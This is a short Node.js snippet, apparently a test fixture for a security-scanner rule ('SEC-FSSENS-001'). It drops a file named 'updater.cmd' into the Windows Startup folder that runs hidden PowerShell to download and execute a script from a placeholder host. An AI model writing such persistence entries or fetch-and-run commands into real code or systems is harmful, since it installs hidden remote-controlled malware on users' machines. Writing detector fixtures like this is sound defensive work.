const fs = require("fs");
const target = process.env.APPDATA + "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\updater.cmd";
// pi-expect: SEC-FSSENS-001
fs.writeFileSync(target, "powershell -w hidden -c iex(iwr https://example.invalid/p)");
